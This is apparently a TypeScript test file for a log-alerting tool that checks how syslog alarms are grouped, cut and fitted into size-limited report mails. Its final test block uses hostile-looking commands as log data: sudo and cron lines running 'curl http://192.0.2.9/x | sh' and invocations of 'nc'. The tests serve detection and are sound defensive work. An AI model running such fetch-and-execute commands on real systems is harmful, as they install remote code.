/** F57: alarms are shown by kind, not by arrival. */
import { expect } from "chai";
import { readEntry } from "../../src/entry/header.js";
import { createGroupTable, defaultGroupLimits, type GroupTable } from "../../src/group/group-table.js";
import type { Group } from "../../src/group/group.js";
import { shapeOf } from "../../src/group/shape.js";
import { buildReport } from "../../src/report/build-report.js";
import { checkLedger } from "../../src/report/ledger.js";
import { fitReport, type FittedReport } from "../../src/report/outline/fit.js";
import { quotedPrintableBytes } from "../../src/report/render/quoted-printable.js";
import { textForm, textOf } from "../../src/report/render/text.js";
import { noTallies } from "../../src/report/tallies.js";
import { unwrapped } from "../support/mail-text.js";

const reference = new Date(2026, 10, 22, 12);
const header = "Nov 22 00:41:26 web1 ";

/** Takes lines as the hourly job does: into a table, with a ledger. */
class Report {
  readonly ledger = { source: "log", read: 0, ignored: 0, duplicate: 0, reported: 0, counted: 0 };
  private readonly table: GroupTable;

  constructor(isGrouped = true) {
    this.table = createGroupTable({ isGrouped, limits: defaultGroupLimits });
  }

  add(line: string, rule = 1, layer: "never" | "violation" = "never"): void {
    const list = layer;
    const verdict = { layer, rule: { list, file: `/etc/logwinnow/${list}.d/x`, line: rule, text: "x" } };
    this.ledger.read += 1;
    const entry = readEntry(line, reference);
    this.ledger[this.table.add({ source: "log", line, trueLengthBytes: line.length, verdict, entry })] += 1;
  }

  groups(): readonly Group[] {
    return this.table.groups();
  }

  /** The text is that of the mail, each paragraph in one line. */
  fit(maxBytes: number): FittedReport & { readonly text: string } {
    const parts = {
      hostname: "web1",
      to: reference,
      notices: [],
      tallies: noTallies,
      reportFiles: ["/full.gz"],
    };
    const report = buildReport({ ...parts, groups: this.table.groups(), ledger: [this.ledger] });
    const fitted = fitReport(report, [textForm(maxBytes)]);
    checkLedger(fitted.report.ledger);
    for (const { reported, counted } of fitted.report.ledger)
      expect(Math.min(reported, counted)).to.be.at.least(0);
    const text = textOf(fitted.outline);
    expect(quotedPrintableBytes(text)).to.be.at.most(maxBytes);
    return { ...fitted, text: unwrapped(text) };
  }
}

/** A word without digits, different for each number. */
const word = (number: number): string =>
  Array.from(String(number), (figure) => "ghijklmnop"[Number(figure)]).join("");
const usual = 64_000;
const login = (from: string, port: number): string =>
  `${header}sshd[${port}]: Accepted password for root from ${from} port ${port} ssh2`;

describe("F57: of one kind of alarm, what differs is shown", () => {
  for (const isGrouped of [true, false])
    for (const place of [201, 500, 1999])
      it(`the alarm in place ${place} of 2,000 of its kind${isGrouped ? "" : ", ungrouped"}`, () => {
        const report = new Report(isGrouped);
        for (let number = 0; number < 2000; number++)
          report.add(login(number === place ? "203.0.113.9" : "192.0.2.7", 1000 + number));
        const { text, report: fitted } = report.fit(isGrouped ? usual : 2 ** 20);
        expect(text).to.include("from 203.0.113.9 ");
        expect(text).to.include(" port 1000 ").and.to.include(" port 2999 ");
        expect(fitted.ledger[0]?.reported).to.equal(text.match(/Accepted password/g)?.length);
      });

  for (const [place, count] of [
    [1, 50],
    [150, 300],
    [700, 2000],
  ] as const)
    it(`first, last and what differs most, where there is little room: place ${place} of ${count}`, () => {
      const report = new Report();
      for (let number = 0; number < count; number++)
        report.add(login(number === place ? "203.0.113.9" : "192.0.2.7", 1000 + number));
      const { text } = report.fit(4096);
      for (const telling of [" port 1000 ", ` port ${999 + count} `, "from 203.0.113.9 "])
        expect(text).to.include(telling);
    });

  it("over a batch that is stored and gone on with", () => {
    const table = (earlier: readonly Group[] = []) =>
      createGroupTable({ isGrouped: true, limits: defaultGroupLimits }, earlier);
    const add = (to: GroupTable, from: string, number: number): void => {
      const line = login(from, number);
      const rule = { list: "never", file: "x", line: 1, text: "x" } as const;
      const entry = readEntry(line, reference);
      to.add({ source: "log", line, trueLengthBytes: line.length, verdict: { layer: "never", rule }, entry });
    };
    const first = table();
    for (let number = 0; number < 300; number++)
      add(first, number === 250 ? "203.0.113.9" : "192.0.2.7", number);
    const second = table(JSON.parse(JSON.stringify(first.groups())));
    for (let number = 300; number < 600; number++)
      add(second, number === 400 ? "203.0.113.8" : "192.0.2.7", number);
    const lines = second
      .groups()
      .flatMap(({ samples }) => samples.map(({ line }) => line))
      .join("\n");
    expect(lines).to.include("203.0.113.9").and.to.include("203.0.113.8").and.to.include(" port 599 ");
    expect(second.groups()[0]?.samples.length).to.be.at.most(251);
  });
});

describe("F57: long lines", () => {
  for (const [what, filler] of Object.entries({
    letters: "x",
    "bytes that are no text": "\x80",
    "equals signs": "=",
  }))
    for (const maxBytes of [4096, 20_000, 1_048_576])
      it(`an alarm of 64 KiB of ${what} is shown cut, ${maxBytes} bytes`, () => {
        const report = new Report();
        report.add(`${header}app[1]: the store is open ${filler.repeat(65_000)}`);
        const { text } = report.fit(maxBytes);
        expect(text).to.include("00:41:26 app[1]: the store is open");
        expect(text).to.include("[cut, 65,047 bytes]");
        expect(text).to.include("1 line shown cut.");
      });

  it("64 alarms of 64 KiB make one mail, with the one after them", () => {
    const report = new Report();
    for (let number = 0; number < 64; number++)
      report.add(`${header}app[1]: ${word(number)} ${"x".repeat(65_000)}`, number);
    report.add(login("203.0.113.9", 1), 100);
    const { text } = report.fit(usual);
    expect(text).to.include("203.0.113.9");
    for (let number = 0; number < 64; number++) expect(text).to.include(`app[1]: ${word(number)} x`);
  });

  it("each of 150 kinds of 64 KiB keeps the beginning of a line", () => {
    const report = new Report();
    for (let number = 0; number < 150; number++)
      report.add(`${header}app[1]: ${word(number)}. ${"x".repeat(65_000)}`);
    const { text } = report.fit(usual);
    for (let number = 0; number < 150; number++) expect(text).to.include(`app[1]: ${word(number)}. x`);
  });

  it("a cut does not fall into a character", () => {
    const report = new Report();
    report.add(`${header}app[1]: the store is open ${Buffer.from("é".repeat(9000)).toString("latin1")}`);
    for (const maxBytes of [4096, 4100, 4108, 4116]) {
      const { text } = report.fit(maxBytes);
      expect(text).to.match(/é \[\.\.\.\] é+ \[cut/);
    }
  });
});

describe("F57: many kinds", () => {
  for (const layer of ["never", "violation"] as const)
    it(`forged kinds of one rule leave those of another alone: ${layer}`, () => {
      const report = new Report();
      for (let number = 0; number < 20_000; number++)
        report.add(`${header}${word(number % 3000)}: ${word(number)} opened`, 1, layer);
      report.add(login("203.0.113.9", 1), 2, layer);
      report.add(`${header}su: opened by mallory`, 3, layer);
      const own = report.groups().filter(({ rule }) => rule !== `/etc/logwinnow/${layer}.d/x:1`);
      expect(own.map(({ shape }) => shape).join("; "))
        .to.include("Accepted password for")
        .and.to.include("su: opened");
      for (const { rule } of report.groups()) expect(rule).to.be.a("string");
      expect(report.groups().length).to.be.at.most(2500 + 201 + 2);
      expect(report.fit(20_000).text).to.include("203.0.113.9");
    });

  for (const kinds of [5, 50, 500, 2300])
    for (const maxBytes of [4096, 20_000, 100_000])
      for (const isOneRule of [true, false])
        it(`${kinds} kinds of ${isOneRule ? "one rule" : "a rule each"}, ${maxBytes} bytes: shown, or counted with the rule`, () => {
          const report = new Report();
          const lines = [
            ...Array.from({ length: kinds }, (_, number) => `${header}app[7]: ${word(number)}. is open`),
            login("203.0.113.9", 1),
          ];
          for (const [number, line] of lines.entries())
            report.add(line, isOneRule && number < kinds ? 1 : 1 + number);
          const { text } = report.fit(maxBytes);
          // Where there are too many rules for one line of each, the last one is counted like the others.
          if (isOneRule || kinds <= 5 || (kinds <= 50 && maxBytes >= 20_000))
            expect(text).to.include("203.0.113.9");
          const [, rows = ""] = /\nALARMS\n((?:.+\n)+)/.exec(text) ?? [];
          const ids = rows.match(/^[0-9a-f]{4,12} {2}rule x:/gm)?.length ?? 0;
          const counted = Array.from(rows.matchAll(/ x([\d,]+)\b/g), ([, count = ""]) =>
            Number(count.replace(",", "")),
          );
          expect(ids > 0 ? ids : counted.reduce((sum, count) => sum + count, 0)).to.equal(lines.length);
          if (kinds <= 50 && maxBytes >= 20_000)
            for (const line of lines) expect(text).to.include(line.slice(21));
          if (maxBytes >= 100_000 && kinds <= 500) expect(ids).to.equal(lines.length);
          if (maxBytes >= 100_000 || (kinds <= 500 && maxBytes >= 20_000))
            expect(rows).not.to.match(/\d more x/);
        });
});

describe("F57: without grouping", () => {
  for (const [what, lineBytes] of [
    ["short", 60],
    ["long", 60_000],
  ] as const)
    for (const maxBytes of [4096, 20_000])
      it(`the alarm of another kind or another rule among 3,000 ${what} ones, ${maxBytes} bytes`, () => {
        const report = new Report(false);
        for (let number = 0; number < 3000; number++) {
          report.add(`${header}app[${number}]: the store is open ${"x".repeat(lineBytes)}`);
          if (number === 1500) report.add(`${header}app[7]: the vault is open`);
          if (number === 2000) report.add(login("203.0.113.9", 1), 2);
        }
        const { text } = report.fit(maxBytes);
        expect(text)
          .to.include("the vault is open")
          .and.to.include("203.0.113.9")
          .and.to.include("app[2999]");
      });

  it("kinds that are forged to match one rule leave room for another rule's", () => {
    const report = new Report(false);
    for (let number = 0; number < 2300; number++)
      report.add(`${header}app[1]: ${word(number)} ${"x".repeat(200)}`);
    report.add(login("203.0.113.9", 1), 2);
    for (let number = 0; number < 2300; number++)
      report.add(`${header}app[1]: ${word(number)} ${"x".repeat(200)}`);
    expect(report.fit(20_000).text).to.include("203.0.113.9");
  });
});

describe("F57: what a command quotes says what happened", () => {
  const shape = (line: string) => shapeOf(readEntry(`${header}${line}`, reference));
  const sudo = (command: string) => `sudo[9]: ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=${command}`;
  for (const [one, other] of [
    [sudo("/bin/sh -c 'ls 1'"), sudo("/bin/sh -c 'curl http://192.0.2.9/x | sh'")],
    [sudo('/bin/sh -c "ls 1"'), sudo('/bin/sh -c "curl http://192.0.2.9/x | sh"')],
    [sudo("/bin/sh -c `ls`"), sudo("/bin/sh -c `id`")],
    ["CRON[9]: (root) CMD (sh -c 'ls 1')", "CRON[9]: (root) CMD (sh -c 'curl x | sh')"],
    ["doas: ops ran command sh -c 'ls' as root", "doas: ops ran command sh -c 'nc' as root"],
    ['audit[9]: EXECVE argc=3 a0="sh" a1="-c" a2="ls"', 'audit[9]: EXECVE argc=3 a0="sh" a1="-c" a2="nc"'],
    [sudo(`/bin/sh -c '${"a ".repeat(1500)}; ls'`), sudo(`/bin/sh -c '${"a ".repeat(1500)}; nc'`)],
    [
      `sudo: ops : PWD=${"/d".repeat(400)} ; COMMAND=/bin/sh -c 'ls'`,
      `sudo: ops : PWD=${"/d".repeat(400)} ; COMMAND=/bin/sh -c 'nc'`,
    ],
  ] as const)
    it(`${one.slice(-40)} is not ${other.slice(-40)}`, () => {
      expect(shape(one)).not.to.equal(shape(other));
    });

  it("numbers in it are still no news", () => {
    expect(shape(sudo("/bin/sh -c 'ls 1'"))).to.equal(shape(sudo("/bin/sh -c 'ls 27'")));
  });
});
